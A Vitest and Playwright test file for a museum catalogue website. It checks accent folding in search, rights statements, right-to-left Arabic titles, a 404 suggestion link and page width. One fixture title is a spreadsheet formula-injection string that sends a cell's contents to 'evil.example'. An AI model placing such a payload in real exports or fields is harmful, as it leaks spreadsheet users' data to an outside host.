import { mkdtemp, readFile, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildCatalogueData, buildSite } from '../../pipeline/catalogue/index.ts';
import { rightsOf } from '../../pipeline/catalogue/rights.ts';
import type { Catalogue } from '../../pipeline/catalogue/schema.ts';
import { memoryLogger } from '../../pipeline/log.ts';
import { defaultParams } from '../../pipeline/params.ts';
import { workspace } from '../../pipeline/paths.ts';
import { fold, foldedCopy } from '../../site/src/lib/fold.ts';
import { rightsNote } from '../../site/src/lib/rights.ts';
import { openChromium, type TestBrowser } from '../fixtures/chromium.ts';
import { type FixtureObject, writeFixture } from './fixture.ts';
import { serveSite } from './server.ts';

/*
 * Details an outside tester met on the public catalogue: the review queue's advice when no object
 * has a "Suggest a correction" link (no repository, as in the demo), right-to-left titles, a title
 * with no spaces at 1280 px, an object's address typed as its id is printed ("objects/DM-0267/"),
 * rights said once, and searching "lodz" for "Łódź". One small site, read back as HTML and in Chromium.
 */

// Run in the page by Playwright (the tests' own types have no DOM).
declare const document: { documentElement: { scrollWidth: number } };
declare const window: { innerWidth: number };
declare function getComputedStyle(e: unknown): { direction: string };

const ARABIC = 'إناء فخاري من العصر العباسي';
const UNBREAKABLE = `=HYPERLINK("http://evil.example/?x="&A1,"Click")${'x'.repeat(120)}`;

describe('folding for search', () => {
  it('folds the Latin letters Pagefind keeps apart, and leaves other scripts alone', () => {
    expect(fold('Łódź')).toBe('Lodz');
    expect(fold('Ørsted, Æthelred, Straße, Đakovo')).toBe('Orsted, AEthelred, Strasse, Dakovo');
    expect(fold(ARABIC)).toBe(ARABIC);
    expect(fold('Ἀθῆναι')).toBe('Ἀθῆναι');
    // A copy only where Pagefind's own folding of accents is not enough.
    expect(foldedCopy('Château')).toBe('');
    expect(foldedCopy('Plate from Łódź')).toBe('Lodz');
  });
});

describe('rights note', () => {
  it("keeps the museum's words only where they say more than the statement", () => {
    expect(rightsNote(rightsOf('Public domain'))).toBeNull();
    expect(rightsNote(rightsOf('CC0 1.0 Universal'))).toBeNull();
    expect(rightsNote(rightsOf('In Copyright'))).toBeNull();
    expect(rightsNote(rightsOf('http://creativecommons.org/licenses/by-nd/3.0/'))).toBeNull();
    expect(rightsNote(rightsOf('CC0 (The Met Open Access)'))).toBe('CC0 (The Met Open Access)');
    expect(rightsNote(rightsOf('Ask the registrar'))).toBe('Ask the registrar');
  });
});

describe('visitor details on a built site', () => {
  let dir = '';
  let catalogue: Catalogue;
  let browser: TestBrowser;
  let page: Page;
  let site: Awaited<ReturnType<typeof serveSite>>;

  beforeAll(async () => {
    dir = await mkdtemp(path.join(os.tmpdir(), 'vitrine-visitor-'));
    const labels = ['vessel', 'textile'];
    const objects: FixtureObject[] = [
      { id: 'DM-0267', title: ARABIC, label: 'vessel', image: null, rights: 'Public domain', description: ARABIC },
      { id: 'DM-0001', title: UNBREAKABLE, label: 'vessel', image: null, description: UNBREAKABLE },
      { id: 'DM-0002', title: 'Plate from Łódź', label: 'vessel', image: null, rights: 'CC0 (The Met Open Access)' },
      { id: 'DM-0003', title: 'View of the Château', label: 'textile', image: null },
      // In the review queue: the model disagrees with the staff label.
      {
        id: 'DM-0004',
        title: 'Sampler',
        label: 'textile',
        image: null,
        predicted: { label: 'vessel', confidence: 0.9 },
      },
      { id: 'DM-0005', title: 'Jug', label: 'vessel', image: null, rights: 'Ask the registrar' },
      // Folded text in a field other than the title: the date is indexed too.
      { id: 'DM-0006', title: 'Chair', date: 'przełom XIX wieku', label: 'vessel', image: null },
    ];
    await writeFixture({ root: dir, objects, labels, withMetrics: false });
    const ws = workspace(dir);
    // As in the demo: no GitHub repository, so no object page can link to labels.csv on GitHub.
    const params = defaultParams();
    expect(params.collection.repository).toBe('');
    catalogue = (await buildCatalogueData({ ws, params, log: memoryLogger() })).catalogue;
    await buildSite({ ws, params, log: memoryLogger() });
    site = await serveSite({ dir: ws.site });
    browser = await openChromium();
    page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
    page.setDefaultTimeout(60_000);
  }, 300_000);

  afterAll(async () => {
    await browser?.close();
    await site?.close();
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  const file = (...parts: string[]) => readFile(path.join(workspace(dir).site, ...parts), 'utf8');
  const slugOf = (id: string) => catalogue.objects.find((o) => o.id === id)!.slug;
  const objectHtml = (id: string) => file('objects', slugOf(id), 'index.html');

  it('does not send staff to a "Suggest a correction" link no object page has', async () => {
    const review = await file('review', 'index.html');
    expect(review).toContain('Sampler');
    expect(await objectHtml('DM-0004')).not.toContain('Suggest a correction');
    expect(review).not.toContain('Suggest a correction');
    expect(review).toContain('labels.csv');
  });

  it('marks museum text with dir="auto", so an Arabic title reads right to left', async () => {
    const html = await objectHtml('DM-0267');
    expect(html).toMatch(/<h1 dir="auto"[^>]*>إناء/);
    expect(html).toMatch(/<p dir="auto"[^>]*>إناء/);
    expect(await file('all', 'index.html')).toMatch(/<p class="title" dir="auto"[^>]*>إناء/);
    await page.goto(`${site.url}objects/${slugOf('DM-0267')}/`);
    expect(await page.locator('h1').evaluate((h) => getComputedStyle(h).direction)).toBe('rtl');
  });

  it('keeps a title with no spaces within a 1280 px window', async () => {
    for (const p of [`objects/${slugOf('DM-0001')}/`, 'all/', 'review/']) {
      await page.goto(`${site.url}${p}`);
      const { scroll, inner } = await page.evaluate(() => ({
        scroll: document.documentElement.scrollWidth,
        inner: window.innerWidth,
      }));
      expect(scroll, p).toBeLessThanOrEqual(inner);
    }
  });

  it('offers the page of an object whose address was typed as its id is printed', async () => {
    const response = await page.goto(`${site.url}objects/DM-0267/`);
    expect(response?.status()).toBe(404);
    const link = page.locator('#did-you-mean a');
    await link.waitFor();
    expect(await link.getAttribute('href')).toBe(`/objects/${slugOf('DM-0267')}/`);
    expect(await page.locator('#did-you-mean').textContent()).toContain('DM-0267');
    await link.click();
    await page.waitForURL(`${site.url}objects/dm-0267/`);
    expect(await page.locator('h1').textContent()).toBe(ARABIC);
    // No page under the name either: nothing is offered.
    await page.goto(`${site.url}objects/DM-9999/`);
    await page.waitForLoadState('networkidle');
    expect(await page.locator('#did-you-mean').isHidden()).toBe(true);
  });

  it('says the rights once, linked to the statement, with the museum words only when they add to it', async () => {
    const text = async (id: string) => {
      await page.goto(`${site.url}objects/${slugOf(id)}/`);
      return ((await page.locator('#rights').textContent()) ?? '').replace(/\s+/g, ' ');
    };
    const pd = await text('DM-0267');
    expect(pd.match(/public domain/gi)).toHaveLength(1);
    expect(await page.locator('#rights a[rel~="license"]').getAttribute('href')).toBe(
      'https://creativecommons.org/publicdomain/mark/1.0/',
    );
    const cc0 = await text('DM-0002');
    expect(cc0).toContain('CC0 1.0 Universal');
    expect(cc0).toContain('CC0 (The Met Open Access)');
    const unknown = await text('DM-0005');
    expect(unknown.match(/Ask the registrar/g)).toHaveLength(1);
    expect(await page.locator('#rights a[rel~="license"]').count()).toBe(0);
  });

  it('finds "Łódź" by "lodz" and by "Łódź", and "Château" by "chateau"', async () => {
    const found = async (q: string) => {
      await page.goto(`${site.url}browse/?q=${encodeURIComponent(q)}`);
      await page
        .locator('#status')
        .filter({ hasText: /objects? for/ })
        .waitFor();
      const titles = await page.locator('#results .title').allTextContents();
      const dirs = await page.locator('#results .title').evaluateAll((els) => els.map((e) => e.getAttribute('dir')));
      expect(dirs.every((d) => d === 'auto')).toBe(true);
      return titles;
    };
    expect(await found('lodz')).toEqual(['Plate from Łódź']);
    expect(await found('Łódź')).toEqual(['Plate from Łódź']);
    expect(await found('chateau')).toEqual(['View of the Château']);
    expect(await found('Château')).toEqual(['View of the Château']);
    // Typed exactly as the date is written, it is found as before (the query is folded, so must the date be).
    expect(await found('przełom')).toEqual(['Chair']);
  });
});
